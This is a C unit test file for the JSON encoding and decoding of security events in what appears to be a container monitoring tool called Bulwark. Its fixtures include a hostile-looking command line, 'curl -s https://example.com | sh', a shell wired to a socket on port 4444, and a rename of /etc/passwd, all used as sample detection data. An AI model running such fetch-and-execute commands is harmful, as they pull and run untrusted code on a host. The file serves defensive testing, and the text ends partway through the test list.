/* test_evjson.c - events <-> JSON: exact round trips of every kind, and the
 * errors a replay file or API client gets for bad input. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "bulwark/err.h"
#include "bulwark/evjson.h"

static const char *const full_events[] = {
    "{\"kind\":\"exec\",\"seq\":12,\"time_ns\":1714564800123456789,\"severity\":\"notice\","
    "\"container\":{\"id\":\"4f9c0d1e2a3b4c5d6e7f80911a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d\","
    "\"name\":\"web-1\",\"image\":\"nginx:1.25\",\"image_digest\":\"sha256:0123abcd\","
    "\"runtime\":\"containerd\",\"k8s_namespace\":\"shop\",\"k8s_pod\":\"web-7d9f-abcde\","
    "\"k8s_pod_uid\":\"1b2c3d4e-0000-4000-8000-123456789abc\","
    "\"labels\":{\"app\":\"web\",\"tier\":\"front\",\"empty\":\"\"}},"
    "\"process\":{\"pid\":4242,\"ppid\":1,\"uid\":0,\"gid\":0,\"exe\":\"/bin/sh\",\"name\":\"sh\","
    "\"cmdline\":\"sh -c curl -s https://example.com | sh\",\"parent_name\":\"nginx\","
    "\"start_time_ns\":1714564800000000000,\"user\":\"root\"},"
    "\"exec\":{\"cwd\":\"/tmp\",\"tty\":true}}",

    "{\"kind\":\"net\",\"time_ns\":-5,\"severity\":\"info\",\"process\":{\"pid\":-1,\"name\":\"r\\u00e9dis\"},"
    "\"net\":{\"direction\":\"inbound\",\"protocol\":\"udp\",\"local_addr\":\"fd00::1\",\"local_port\":53,"
    "\"remote_addr\":\"10.1.2.3\",\"remote_port\":40000,\"remote_name\":\"dns.internal\","
    "\"netns_inode\":\"18446744073709551615\"}}",

    "{\"kind\":\"file\",\"severity\":\"warning\",\"file\":{\"op\":\"rename\",\"path\":\"/etc/passwd\","
    "\"new_path\":\"/etc/passwd.bak\"}}",

    "{\"kind\":\"resource\",\"time_ns\":1,\"resource\":{\"cpu_cores\":0.1,\"memory_bytes\":123456789,"
    "\"memory_limit_bytes\":9223372036854775807,\"interval_ms\":10000,\"scope\":\"host\"}}",

    "{\"kind\":\"config\",\"severity\":\"critical\",\"container\":{},\"config\":{\"privileged\":true,"
    "\"user_uid\":4294967295,\"cap_add\":[\"SYS_ADMIN\",\"NET_ADMIN\"],\"host_network\":true,"
    "\"host_pid\":true,\"host_ipc\":true,\"mounts\":[{\"source\":\"/var/run/docker.sock\","
    "\"target\":\"/var/run/docker.sock\",\"read_only\":false,\"type\":\"bind\"},{\"source\":\"tmpfs\","
    "\"target\":\"/tmp\",\"read_only\":true,\"type\":\"tmpfs\"},{}],\"read_only_rootfs\":true,"
    "\"no_new_privileges\":true,\"seccomp_profile\":\"unconfined\",\"apparmor_profile\":\"docker-default\","
    "\"env_names\":[\"PATH\",\"AWS_SECRET_ACCESS_KEY\"],\"config_path\":\"/var/lib/docker/c.json\"}}",

    "{\"kind\":\"vuln\",\"severity\":\"error\",\"vuln\":{\"vuln_id\":\"CVE-2024-6387\",\"package\":\"openssh-server\","
    "\"installed_version\":\"1:9.2p1-2\",\"fixed_version\":\"1:9.2p1-2+deb12u3\",\"vuln_severity\":\"HIGH\","
    "\"cvss_score\":8.1,\"title\":\"regreSSHion\",\"scanner\":\"trivy\",\"target\":\"debian:12\"}}",

    "{\"kind\":\"external\",\"severity\":\"alert\",\"external\":{\"source\":\"falco\",\"rule\":\"Terminal shell in container\","
    "\"priority\":\"Warning\",\"output\":\"A shell was spawned\",\"fields\":{\"proc.name\":\"bash\","
    "\"container.id\":\"abc\"},\"tags\":[\"container\",\"shell\",\"mitre_execution\"]}}",

    /* the attack signs read at exec (ProcessExec 11-16) */
    "{\"kind\":\"exec\",\"time_ns\":7,\"severity\":\"info\",\"process\":{\"pid\":7,\"name\":\"sh\"},"
    "\"exec\":{\"stdin_socket\":true,\"stdout_socket\":true,\"stderr_socket\":true,"
    "\"stdio_remote_addr\":\"2001:db8::7\",\"stdio_remote_port\":4444,\"exe_upper_layer\":true}}",
};

static Bulwark__V1__Event *parse(const char *text)
{
    char err[256] = "";
    Bulwark__V1__Event *ev = NULL;
    int rc = evjson_event_from_line(text, strlen(text), &ev, err, sizeof err);

    if (rc != 0)
        print_error("parse failed: %s\n", err);
    assert_int_equal(rc, 0);
    assert_non_null(ev);
    return ev;
}

/* rc, with the error text in err, for a line expected to fail */
static int parse_err(const char *text, char *err, size_t errlen)
{
    Bulwark__V1__Event *ev = NULL;
    int rc = evjson_event_from_line(text, strlen(text), &ev, err, errlen);

    assert_null(ev);
    return rc;
}

static void assert_same_packed(const Bulwark__V1__Event *a, const Bulwark__V1__Event *b)
{
    size_t na = bulwark__v1__event__get_packed_size(a), nb = bulwark__v1__event__get_packed_size(b);
    uint8_t *pa = malloc(na + 1), *pb = malloc(nb + 1);

    assert_non_null(pa);
    assert_non_null(pb);
    assert_int_equal(bulwark__v1__event__pack(a, pa), na);
    assert_int_equal(bulwark__v1__event__pack(b, pb), nb);
    assert_int_equal(na, nb);
    assert_memory_equal(pa, pb, na);
    free(pa);
    free(pb);
}

/* to_json -> text -> from_line gives the same packed bytes, and the second
 * JSON rendering equals the first. */
static void round_trip(const Bulwark__V1__Event *ev)
{
    json_t *j1 = evjson_event_to_json(ev), *j2;
    Bulwark__V1__Event *back;
    char *text;

    assert_non_null(j1);
    text = json_dumps(j1, JSON_COMPACT);
    assert_non_null(text);
    back = parse(text);
    assert_same_packed(ev, back);
    j2 = evjson_event_to_json(back);
    assert_non_null(j2);
    assert_true(json_equal(j1, j2));
    json_decref(j1);
    json_decref(j2);
    free(text);
    evjson_event_free(back);
}

static void test_round_trip_every_kind(void **state)
{
    int seen[17] = {0};

    for (size_t i = 0; i < sizeof full_events / sizeof full_events[0]; i++) {
        Bulwark__V1__Event *ev = parse(full_events[i]);

        seen[ev->body_case] = 1;
        round_trip(ev);
        evjson_event_free(ev);
    }
    for (int k = BULWARK__V1__EVENT__BODY_EXEC; k <= BULWARK__V1__EVENT__BODY_EXTERNAL; k++)
        assert_true(seen[k]);
}

static void test_fields_parsed(void **state)
{
    Bulwark__V1__Event *ev = parse(full_events[0]);

    assert_int_equal(ev->body_case, BULWARK__V1__EVENT__BODY_EXEC);
    assert_int_equal(ev->seq, 12);
    assert_int_equal(ev->time_ns, 1714564800123456789LL);
    assert_int_equal(ev->severity, BULWARK__V1__SEVERITY__SEVERITY_NOTICE);
    assert_string_equal(ev->container->image, "nginx:1.25");
    assert_int_equal(ev->container->n_labels, 3);
    assert_string_equal(ev->container->labels[0]->key, "app");
    assert_string_equal(ev->container->labels[0]->value, "web");
    assert_int_equal(ev->process->pid, 4242);
    assert_string_equal(ev->process->parent_name, "nginx");
    assert_string_equal(ev->exec->cwd, "/tmp");
    assert_true(ev->exec->tty);
    evjson_event_free(ev);

    ev = parse(full_events[1]);
    assert_int_equal(ev->net->direction, BULWARK__V1__NET_CONNECTION__DIRECTION__INBOUND);
    assert_int_equal(ev->net->protocol, BULWARK__V1__NET_CONNECTION__PROTOCOL__UDP);
    assert_true(ev->net->netns_inode == UINT64_MAX);
    assert_null(ev->container);
    assert_string_equal(ev->process->name, "r\xc3\xa9" "dis");
    evjson_event_free(ev);

    ev = parse(full_events[4]);
    assert_non_null(ev->container);  /* present though empty */
    assert_int_equal(ev->config->user_uid, UINT32_MAX);
    assert_int_equal(ev->config->n_mounts, 3);
    assert_string_equal(ev->config->mounts[1]->type, "tmpfs");
    assert_true(ev->config->mounts[1]->read_only);
    assert_string_equal(ev->config->env_names[1], "AWS_SECRET_ACCESS_KEY");
    evjson_event_free(ev);
}

/* The output a user reads: kind first, enums by name, defaults left out. */
static void test_output_shape(void **state)
{
    Bulwark__V1__Event *ev = parse("{\"kind\":\"net\",\"time_ns\":5,\"net\":{\"remote_port\":443}}");
    json_t *j = evjson_event_to_json(ev);
    char *text = json_dumps(j, JSON_COMPACT);

    assert_string_equal(text, "{\"kind\":\"net\",\"time_ns\":5,\"severity\":\"unspecified\","
                              "\"net\":{\"direction\":\"outbound\",\"protocol\":\"tcp\",\"remote_port\":443}}");
    free(text);
    json_decref(j);
    evjson_event_free(ev);
}

/* An event built by hand with heap strings, as the synthetic source does. */
static void test_hand_built(void **state)
{
    Bulwark__V1__Event *ev = malloc(sizeof *ev);
    Bulwark__V1__ResourceSample *r = malloc(sizeof *r);

    assert_non_null(ev);
    assert_non_null(r);
    bulwark__v1__event__init(ev);
    bulwark__v1__resource_sample__init(r);
    ev->body_case = BULWARK__V1__EVENT__BODY_RESOURCE;
    ev->resource = r;
    ev->seq = UINT64_MAX;
    ev->time_ns = INT64_MIN;
    r->cpu_cores = 0.30000000000000004;
    r->memory_bytes = (uint64_t)INT64_MAX + 1;
    r->scope = strdup("container");
    round_trip(ev);
    evjson_event_free(ev);
    evjson_event_free(NULL);
}

static void test_kind_only_and_time(void **state)
{
    Bulwark__V1__Event *ev = parse("{\"kind\":\"file\",\"time\":\"2024-05-01T12:00:00.5Z\"}");

    assert_int_equal(ev->body_case, BULWARK__V1__EVENT__BODY_FILE);
    assert_non_null(ev->file);
    assert_int_equal(ev->time_ns, 1714564800500000000LL);
    round_trip(ev);
    evjson_event_free(ev);

    ev = parse("{\"kind\":\"exec\",\"time\":\"2024-05-01T14:00:00+02:00\"}");
    assert_int_equal(ev->time_ns, 1714564800000000000LL);
    evjson_event_free(ev);

    /* time_ns wins over time */
    ev = parse("{\"kind\":\"exec\",\"time_ns\":7,\"time\":\"2024-05-01T14:00:00Z\"}");
    assert_int_equal(ev->time_ns, 7);
    evjson_event_free(ev);
}

/* head + n 'a's + tail, malloc'd */
static char *padded(const char *head, size_t n, const char *tail)
{
    size_t h = strlen(head), t = strlen(tail);
    char *s = malloc(h + n + t + 1);

    assert_non_null(s);
    memcpy(s, head, h);
    memset(s + h, 'a', n);
    memcpy(s + h + n, tail, t + 1);
    return s;
}

static void test_errors(void **state)
{
    Bulwark__V1__Event *ev;
    char err[256];
    char *big;

    assert_int_equal(parse_err("{\"kind\":\"exec\",\"process\":{\"pid\":\"abc\"}}", err, sizeof err),
                     BW_EINVAL);
    assert_non_null(strstr(err, "process.pid"));
    assert_int_equal(parse_err("{\"kind\":\"exec\",\"process\":{\"pid\":4294967296}}", err, sizeof err),
                     BW_EINVAL);
    assert_non_null(strstr(err, "process.pid"));
    assert_int_equal(parse_err("{\"kind\":\"exec\",\"exec\":{\"tty\":1}}", err, sizeof err), BW_EINVAL);
    assert_non_null(strstr(err, "exec.tty"));
    assert_int_equal(parse_err("{\"kind\":\"net\",\"net\":{\"direction\":\"sideways\"}}", err, sizeof err),
                     BW_EINVAL);
    assert_non_null(strstr(err, "net.direction"));
    assert_int_equal(parse_err("{\"kind\":\"config\",\"config\":{\"mounts\":[{\"read_only\":\"yes\"}]}}",
                               err, sizeof err), BW_EINVAL);
    assert_non_null(strstr(err, "config.mounts[0].read_only"));
    assert_int_equal(parse_err("{\"kind\":\"external\",\"external\":{\"fields\":[1]}}", err, sizeof err),
                     BW_EINVAL);
    assert_non_null(strstr(err, "external.fields"));
    assert_int_equal(parse_err("{\"kind\":\"external\",\"external\":{\"tags\":\"x\"}}", err, sizeof err),
                     BW_EINVAL);
    assert_int_equal(parse_err("{\"kind\":\"exec\",\"container\":[]}", err, sizeof err), BW_EINVAL);
    assert_non_null(strstr(err, "container"));
    assert_int_equal(parse_err("{\"kind\":\"exec\",\"time\":\"2023-02-30T00:00:00Z\"}", err, sizeof err),
                     BW_EINVAL);
    assert_non_null(strstr(err, "time"));

    assert_int_equal(parse_err("{\"kind\":\"teleport\"}", err, sizeof err), BW_EINVAL);
    assert_non_null(strstr(err, "unknown kind 'teleport'"));
    assert_int_equal(parse_err("{\"kind\":\"seq\"}", err, sizeof err), BW_EINVAL);  /* not a body */
    assert_int_equal(parse_err("{\"time_ns\":1}", err, sizeof err), BW_EINVAL);
    assert_non_null(strstr(err, "kind"));
    assert_int_equal(parse_err("[1,2]", err, sizeof err), BW_EINVAL);
    assert_int_equal(parse_err("{\"kind\":\"exec\"", err, sizeof err), BW_EINVAL);
    assert_int_equal(parse_err("{\"kind\":\"exec\",\"kind\":\"net\"}", err, sizeof err), BW_EINVAL);

    /* an error into a zero-length buffer is still an error */
    assert_int_equal(parse_err("{\"kind\":1}", NULL, 0), BW_EINVAL);
    assert_int_equal(parse_err("{\"kind\":1}", err, 8), BW_EINVAL);
    assert_true(strlen(err) < 8);

    /* oversized strings: 1 KiB, cmdline 4 KiB */
    big = padded("{\"kind\":\"exec\",\"container\":{\"name\":\"", 1025, "\"}}");
    assert_int_equal(parse_err(big, err, sizeof err), BW_EINVAL);
    assert_non_null(strstr(err, "container.name"));
    free(big);

    big = padded("{\"kind\":\"exec\",\"process\":{\"cmdline\":\"", 4096, "\"}}");
    ev = parse(big);  /* exactly 4096 fits */
    assert_int_equal(strlen(ev->process->cmdline), 4096);
    evjson_event_free(ev);
    free(big);
    big = padded("{\"kind\":\"exec\",\"process\":{\"cmdline\":\"", 4097, "\"}}");
    assert_int_equal(parse_err(big, err, sizeof err), BW_EINVAL);
    assert_non_null(strstr(err, "process.cmdline"));
    free(big);
}

static void test_limits_lists_and_nul(void **state)
{
    json_t *o = json_pack("{s:s, s:{s:[]}}", "kind", "config", "config", "cap_add");
    json_t *caps = json_object_get(json_object_get(o, "config"), "cap_add");
    Bulwark__V1__Event *ev = NULL;
    char err[256];

    for (int i = 0; i < 256; i++)
        json_array_append_new(caps, json_string("CAP"));
    assert_int_equal(evjson_event_from_json(o, &ev, err, sizeof err), 0);
    assert_int_equal(ev->config->n_cap_add, 256);
    evjson_event_free(ev);
    ev = NULL;
    json_array_append_new(caps, json_string("CAP"));
    assert_int_equal(evjson_event_from_json(o, &ev, err, sizeof err), BW_EINVAL);
    assert_null(ev);
    assert_non_null(strstr(err, "config.cap_add"));
    json_decref(o);

    o = json_pack("{s:s, s:{s:s%}}", "kind", "file", "file", "path", "/a\0b", (size_t)4);
    assert_non_null(o);
    assert_int_equal(evjson_event_from_json(o, &ev, err, sizeof err), BW_EINVAL);
    assert_non_null(strstr(err, "file.path"));
    json_decref(o);
}

/* Events unpacked from the wire have the same malloc'd layout. */
static void test_free_unpacked(void **state)
{
    for (size_t i = 0; i < sizeof full_events / sizeof full_events[0]; i++) {
        Bulwark__V1__Event *ev = parse(full_events[i]), *un;
        size_t n = bulwark__v1__event__get_packed_size(ev);
        uint8_t *p = malloc(n + 1);

        assert_non_null(p);
        bulwark__v1__event__pack(ev, p);
        un = bulwark__v1__event__unpack(NULL, n, p);
        assert_non_null(un);
        assert_same_packed(ev, un);
        evjson_event_free(un);  /* ASan checks this frees exactly what unpack made */
        evjson_event_free(ev);
        free(p);
    }
}

/* ... with the fields this schema does not know, in the event and in a
 * sub-message (found by tests/fuzz/fuzz_evjson: they leaked). */
static void test_free_unpacked_unknown_fields(void **state)
{
    /* seq 1; container {id "abc", field 20 "xy"}; field 416 fixed32; field 300 "zz" */
    static const uint8_t wire[] = {0x08, 0x01, 0x22, 0x0a, 0x0a, 0x03, 'a', 'b', 'c', 0xa2,
                                   0x01, 0x02, 'x', 'y', 0x85, 0x1a, 1, 2, 3, 4,
                                   0xe2, 0x12, 0x02, 'z', 'z'};
    Bulwark__V1__Event *un = bulwark__v1__event__unpack(NULL, sizeof wire, wire);

    (void)state;
    assert_non_null(un);
    assert_int_equal(un->base.n_unknown_fields, 2);
    evjson_event_free(un);  /* ASan: nothing left */
}

static void test_kind_names(void **state)
{
    assert_string_equal(evjson_kind_name(BULWARK__V1__EVENT__BODY_NET), "net");
    assert_string_equal(evjson_kind_name(BULWARK__V1__EVENT__BODY_EXTERNAL), "external");
    assert_null(evjson_kind_name(0));
    assert_null(evjson_kind_name(1));  /* seq: a field, not a kind */
    assert_null(evjson_kind_name(99));
    assert_int_equal(evjson_kind_from_name("vuln"), BULWARK__V1__EVENT__BODY_VULN);
    assert_int_equal(evjson_kind_from_name("process"), 0);
    assert_int_equal(evjson_kind_from_name("nope"), 0);
    assert_int_equal(evjson_kind_from_name(NULL), 0);
}

/* Invalid UTF-8 from the wire still yields JSON. */
static void test_invalid_utf8_output(void **state)
{
    Bulwark__V1__Event *ev = parse("{\"kind\":\"file\",\"file\":{\"path\":\"/x\"}}");
    json_t *j;

    free(ev->file->path);
    ev->file->path = strdup("/tmp/\xff\xfe");
    j = evjson_event_to_json(ev);
    assert_non_null(j);
    assert_string_equal(json_string_value(json_object_get(json_object_get(j, "file"), "path")), "/tmp/??");
    json_decref(j);
    evjson_event_free(ev);
}

/* The direct text writer gives the bytes json_dumps gives of the tree,
 * without kind, seq, time_ns and severity. */
static void assert_writer_matches(const Bulwark__V1__Event *ev)
{
    json_t *j = evjson_event_to_json(ev);
    struct buf b;
    char *want;

    assert_non_null(j);
    json_object_del(j, "kind");
    json_object_del(j, "seq");
    json_object_del(j, "time_ns");
    json_object_del(j, "severity");
    want = json_dumps(j, JSON_COMPACT | JSON_ENSURE_ASCII);
    assert_non_null(want);
    buf_init(&b, 1 << 20);
    assert_int_equal(buf_append(&b, "{", 1), 0);
    assert_int_equal(evjson_event_write_members(ev, &b), 0);
    assert_int_equal(buf_append(&b, "}", 2), 0);  /* with the NUL */
    char *got = (char *)buf_head(&b);
    if (got[1] == ',')
        memmove(got + 1, got + 2, strlen(got + 2) + 1);
    assert_string_equal(got, want);
    free(want);
    json_decref(j);
    buf_release(&b);
}

static void test_text_writer_matches_tree(void **state)
{
    static const char *const odd[] = {
        /* escapes, non-ASCII (BMP and astral), DEL, doubles of every shape */
        ("{\"kind\":\"exec\",\"process\":{\"cmdline\":\"a\\\"b\\\\c\\n\\t\\r\\b\\f\\u0001\\u001f"
         "\\u007f/\\u00e9\\u20ac\\ud83d\\ude00\"},\"exec\":{}}"),
        "{\"kind\":\"resource\",\"resource\":{\"cpu_cores\":3}}",
        "{\"kind\":\"resource\",\"resource\":{\"cpu_cores\":1e20}}",
        "{\"kind\":\"resource\",\"resource\":{\"cpu_cores\":1.5e-7}}",
        "{\"kind\":\"resource\",\"resource\":{\"cpu_cores\":-123456.789}}",
        "{\"kind\":\"resource\",\"resource\":{\"cpu_cores\":2.5e300}}",
        "{\"kind\":\"net\",\"net\":{}}",
        "{\"kind\":\"external\",\"external\":{\"fields\":{}}}",
    };
    (void)state;
    for (size_t i = 0; i < sizeof full_events / sizeof full_events[0]; i++) {
        Bulwark__V1__Event *ev = parse(full_events[i]);
        assert_writer_matches(ev);
        evjson_event_free(ev);
    }
    for (size_t i = 0; i < sizeof odd / sizeof odd[0]; i++) {
        Bulwark__V1__Event *ev = parse(odd[i]);
        assert_writer_matches(ev);
        evjson_event_free(ev);
    }
    /* invalid UTF-8 (it can come from the wire): '?' for each byte from 0x80 */
    Bulwark__V1__Event *ev = parse(full_events[0]);
    free(ev->process->cmdline);
    ev->process->cmdline = strdup("caf\xc3\xa9 \xff\xfe\"\x01");
    assert_writer_matches(ev);
    evjson_event_free(ev);
}

/* ev as compact JSON text (free it). */
static char *json_text(const Bulwark__V1__Event *ev)
{
    json_t *j = evjson_event_to_json(ev);
    char *text;

    assert_non_null(j);
    text = json_dumps(j, JSON_COMPACT);
    assert_non_null(text);
    json_decref(j);
    return text;
}

/* Fields with presence (uid, gid, tty, loginuid, vpid...): given as 0 they
 * are present and written as 0 by both writers and on the wire; not given
 * (or null) they are absent everywhere, not 0. */
static void test_presence(void **state)
{
    static const char zero[] =
        "{\"kind\":\"exec\",\"process\":{\"pid\":9,\"uid\":0,\"gid\":0,\"loginuid\":0,\"vpid\":0,"
        "\"ancestors\":[{\"pid\":1,\"name\":\"init\"}],\"parent_cmdline\":\"init\"},"
        "\"exec\":{\"tty\":false,\"tty_nr\":0}}";
    static const char none[] = "{\"kind\":\"exec\",\"process\":{\"pid\":9,\"uid\":null},\"exec\":{}}";
    Bulwark__V1__Event *ev = parse(zero), *back;
    char *text;
    uint8_t wire[512];
    size_t n;

    (void)state;
    assert_int_equal(ev->process->uid_opt_case, BULWARK__V1__PROCESS_REF__UID_OPT_UID);
    assert_int_equal(ev->process->loginuid_opt_case, BULWARK__V1__PROCESS_REF__LOGINUID_OPT_LOGINUID);
    assert_int_equal(ev->exec->tty_opt_case, BULWARK__V1__PROCESS_EXEC__TTY_OPT_TTY);
    assert_int_equal(ev->process->n_ancestors, 1);
    text = json_text(ev);
    assert_non_null(strstr(text, "\"uid\":0"));
    assert_non_null(strstr(text, "\"gid\":0"));
    assert_non_null(strstr(text, "\"loginuid\":0"));
    assert_non_null(strstr(text, "\"tty\":false"));
    assert_non_null(strstr(text, "\"tty_nr\":0"));
    free(text);
    assert_writer_matches(ev);
    round_trip(ev);
    /* and through the wire */
    n = bulwark__v1__event__get_packed_size(ev);
    assert_true(n <= sizeof wire);
    bulwark__v1__event__pack(ev, wire);
    back = bulwark__v1__event__unpack(NULL, n, wire);
    assert_non_null(back);
    assert_int_equal(back->process->uid_opt_case, BULWARK__V1__PROCESS_REF__UID_OPT_UID);
    assert_int_equal(back->process->vpid_opt_case, BULWARK__V1__PROCESS_REF__VPID_OPT_VPID);
    assert_int_equal(back->exec->tty_nr_opt_case, BULWARK__V1__PROCESS_EXEC__TTY_NR_OPT_TTY_NR);
    assert_int_equal(back->process->sid_opt_case, BULWARK__V1__PROCESS_REF__SID_OPT__NOT_SET);
    evjson_event_free(back);
    evjson_event_free(ev);

    ev = parse(none);
    assert_int_equal(ev->process->uid_opt_case, BULWARK__V1__PROCESS_REF__UID_OPT__NOT_SET);
    assert_int_equal(ev->process->gid_opt_case, BULWARK__V1__PROCESS_REF__GID_OPT__NOT_SET);
    assert_int_equal(ev->exec->tty_opt_case, BULWARK__V1__PROCESS_EXEC__TTY_OPT__NOT_SET);
    text = json_text(ev);
    assert_null(strstr(text, "uid"));
    assert_null(strstr(text, "tty"));
    free(text);
    assert_writer_matches(ev);
    round_trip(ev);
    evjson_event_free(ev);
}

/* evjson_write_string(s, bad) against json_dumps of jansson's string: for
 * valid UTF-8 the same bytes; for invalid, jansson's string of s with each
 * byte from 0x80 replaced by the text bad stands for (? or U+FFFD). */
static void assert_string_matches(const char *s, const char *bad, const char *bad_utf8)
{
    json_t *j = json_string(s);
    struct buf b;
    char *want;

    if (!j) {
        size_t n = strlen(s), k = 0, bl = strlen(bad_utf8);
        char *copy = malloc(n * bl + 1);
        assert_non_null(copy);
        for (size_t i = 0; i < n; i++) {
            if ((unsigned char)s[i] >= 0x80) {
                memcpy(copy + k, bad_utf8, bl);
                k += bl;
            } else {
                copy[k++] = s[i];
            }
        }
        copy[k] = '\0';
        j = json_string(copy);
        free(copy);
    }
    assert_non_null(j);
    want = json_dumps(j, JSON_COMPACT | JSON_ENSURE_ASCII | JSON_ENCODE_ANY);
    assert_non_null(want);
    buf_init(&b, 1 << 24);
    assert_int_equal(evjson_write_string(&b, s, bad), 0);
    assert_int_equal(buf_append(&b, "", 1), 0);
    assert_string_equal((const char *)buf_head(&b), want);
    free(want);
    json_decref(j);
    buf_release(&b);
}

static void test_write_string_edges(void **state)
{
    static const char *const cases[] = {
        "", "plain", "\"", "\\", "\"\\\"\\", "a\x01" "b\x1f" "c\x7f", "\b\f\n\r\t\x0b\x00",
        "/slash/", "caf\xc3\xa9", "\xe2\x80\xa8 line sep \xe2\x80\xa9", "\xef\xbf\xbf",
        "\xf0\x9f\x98\x80 astral \xf4\x8f\xbf\xbf",
        "\xff", "\xfe\xff", "\xc3", "abc\xc3", "\xe2\x80", "\xc0\x80 overlong NUL",
        "\xed\xa0\x80 surrogate", "\xf4\x90\x80\x80 past U+10FFFF", "\xf5\x80\x80\x80",
        "\x80 lone continuation", "valid \xc3\xa9 then invalid \xff and \"quote\"",
    };
    char big[70000];
    (void)state;

    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        assert_string_matches(cases[i], "?", "?");
        assert_string_matches(cases[i], "\\uFFFD", "\xef\xbf\xbd");
    }
    /* NULL writes "", and a buffer that cannot take the worst case is left as it was */
    struct buf nb;
    buf_init(&nb, 16);
    assert_int_equal(evjson_write_string(&nb, NULL, "?"), 0);
    assert_int_equal(buf_size(&nb), 2);
    assert_memory_equal(buf_head(&nb), "\"\"", 2);
    assert_int_equal(evjson_write_string(&nb, "0123", "?"), BW_ETOOBIG);
    assert_int_equal(buf_size(&nb), 2);
    buf_release(&nb);
    /* long: runs that need nothing, with escapes between them and at the ends */
    for (size_t i = 0; i < sizeof big - 1; i++)
        big[i] = (char)('a' + i % 26);
    big[sizeof big - 1] = '\0';
    assert_string_matches(big, "?", "?");
    big[0] = '"';
    big[1000] = '\n';
    big[sizeof big - 2] = '\\';
    assert_string_matches(big, "?", "?");
    memcpy(big + 30000, "\xe2\x82\xac", 3);
    assert_string_matches(big, "\\uFFFD", "\xef\xbf\xbd");
    big[50000] = (char)0xff;  /* one invalid byte far from the start */
    assert_string_matches(big, "\\uFFFD", "\xef\xbf\xbd");
    assert_string_matches(big, "?", "?");
}

/* Random strings over the bytes that matter, in both modes. */
static void test_write_string_random(void **state)
{
    static const unsigned char alphabet[] = {'a', 'Z', ' ', '"', '\\', '/', 0x01, 0x1f, '\n',
                                             0x7f, 0xc3, 0xa9, 0xe2, 0x80, 0xa8, 0xf0, 0x9f,
                                             0x98, 0xed, 0xbf, 0xff, 0xc2};
    uint32_t x = 12345;
    char s[40];
    (void)state;

    for (int n = 0; n < 20000; n++) {
        x = x * 1103515245u + 12345u;
        size_t len = (x >> 16) % (sizeof s);
        for (size_t i = 0; i < len; i++) {
            x = x * 1103515245u + 12345u;
            s[i] = (char)alphabet[(x >> 16) % sizeof alphabet];
        }
        s[len] = '\0';
        assert_string_matches(s, n % 2 ? "?" : "\\uFFFD", n % 2 ? "?" : "\xef\xbf\xbd");
    }
}


/* evjson_format_time by arithmetic against gmtime_r, over the whole range
 * of int64 nanoseconds (1677 to 2262). */
static void assert_time_matches(int64_t ns)
{
    int64_t sec = ns / 1000000000, frac = ns % 1000000000;
    char got[EVJSON_TIME_MAX], want[64];
    struct tm tm;
    time_t t;

    if (frac < 0) {
        frac += 1000000000;
        sec--;
    }
    t = (time_t)sec;
    assert_non_null(gmtime_r(&t, &tm));
    if (tm.tm_year + 1900 > 9999 || tm.tm_year + 1900 < 0) {
        assert_int_equal(evjson_format_time(ns, got, sizeof got), BW_EINVAL);
        return;
    }
    size_t k = strftime(want, sizeof want, "%Y-%m-%dT%H:%M:%S", &tm);
    if (tm.tm_year + 1900 < 1000)  /* strftime does not pad the year */
        k = (size_t)snprintf(want, sizeof want, "%04d-%02d-%02dT%02d:%02d:%02d",
                             tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour,
                             tm.tm_min, tm.tm_sec);
    if (frac)
        k += (size_t)snprintf(want + k, sizeof want - k, ".%09lld", (long long)frac);
    snprintf(want + k, sizeof want - k, "Z");
    assert_int_equal(evjson_format_time(ns, got, sizeof got), 0);
    assert_string_equal(got, want);
}

static void test_format_time(void **state)
{
    static const int64_t secs[] = {0, -1, 1, 59, 60, 86399, 86400, -86400, -86401,
                                   951782400, 951868800, 1700000000, 4102444800,
                                   9223372035, -9223372035, 68256, -2208988800};
    uint64_t x = 99;
    char small[20];
    (void)state;

    for (size_t i = 0; i < sizeof secs / sizeof secs[0]; i++) {
        assert_time_matches(secs[i] * 1000000000);
        assert_time_matches(secs[i] * 1000000000 + 1);
        assert_time_matches(secs[i] * 1000000000 - 1);
        assert_time_matches(secs[i] * 1000000000 + 999999999);
    }
    for (int i = 0; i < 200000; i++) {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        /* either side of 1970, as far as int64 nanoseconds go */
        int64_t s = (int64_t)(x % 18000000000ULL) - 9000000000LL;
        assert_time_matches(s * 1000000000 + (int64_t)(x >> 40) % 1000000000);
    }
    assert_time_matches(INT64_MAX);
    assert_time_matches(INT64_MIN);
    assert_int_equal(evjson_format_time(INT64_MAX, small, sizeof small), BW_ETOOBIG);
    assert_int_equal(evjson_format_time(1000000000, small, sizeof small), BW_ETOOBIG);
}


static void assert_int_text(long long v)
{
    char got[24], want[32];
    size_t n = evjson_format_int(v, got);
    assert_int_equal(n, (size_t)snprintf(want, sizeof want, "%lld", v));
    assert_memory_equal(got, want, n);
}

static void test_format_int(void **state)
{
    static const long long edges[] = {0, 1, -1, 9, 10, 11, 99, 100, 101, 999, 1000, -10, -99,
                                      -100, 4294967295LL, 9223372036854775807LL,
                                      -9223372036854775807LL - 1};
    uint64_t x = 7;
    (void)state;

    for (size_t i = 0; i < sizeof edges / sizeof edges[0]; i++)
        assert_int_text(edges[i]);
    long long p = 1;
    for (int k = 0; k < 19; k++) {  /* 1 to 10^18 */
        assert_int_text(p - 1);
        assert_int_text(p);
        assert_int_text(-p);
        if (k < 18)
            p *= 10;
    }
    for (int i = 0; i < 100000; i++) {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        assert_int_text((long long)(x >> (x & 63)));
        assert_int_text(-(long long)(x >> 1));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_round_trip_every_kind),
        cmocka_unit_test(test_fields_parsed),
        cmocka_unit_test(test_output_shape),
        cmocka_unit_test(test_hand_built),
        cmocka_unit_test(test_kind_only_and_time),
        cmocka_unit_test(test_errors),
        cmocka_unit_test(test_limits_lists_and_nul),
        cmocka_unit_test(test_free_unpacked),
        cmocka_unit_test(test_free_unpacked_unknown_fields),
        cmocka_unit_test(test_kind_names),
        cmocka_unit_test(test_invalid_utf8_output),
        cmocka_unit_test(test_text_writer_matches_tree),
        cmocka_unit_test(test_presence),
        cmocka_unit_test(test_write_string_edges),
        cmocka_unit_test(test_write_string_random),
